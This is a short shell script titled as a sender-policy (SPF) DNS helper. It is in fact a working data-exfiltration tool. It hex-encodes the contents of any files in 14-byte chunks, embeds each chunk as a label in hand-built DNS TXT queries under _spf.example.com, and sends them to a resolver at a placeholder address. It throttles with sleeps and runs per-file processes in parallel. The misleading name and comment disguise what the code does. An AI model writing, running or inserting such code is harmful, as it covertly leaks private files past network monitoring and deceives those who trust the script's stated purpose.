#!/bin/sh
# sender-policy.sh SECONDS FILE...: a helper for each file asks the resolver for a text record of names that there are none of, each with fourteen bytes of
# the file, by a process of its own (RFC 1035); each must be answered.
seconds=$1
shift
asked() {
  { printf '\022\007\001\000\000\001\000\000\000\000\000\000'; printf "\\0$(printf %o ${#1})%s" "$1"; printf '\004_spf\007example\003com\000\000\020\000\001'; } |
    busybox dd bs=512 iflag=fullblock 2> /dev/null | socat -t 0.5 - UDP4:192.0.2.53:53 | tail -c 30 | grep -q example
}
all=
for file; do
  (
    od -An -v -tx1 -w14 "$file" | tr -d ' ' | while read -r part; do
      asked "$part" || exit 9
      sleep "$seconds"
    done
  ) &
  all="$all $!"
done
for each in $all; do wait "$each" || exit 9; done
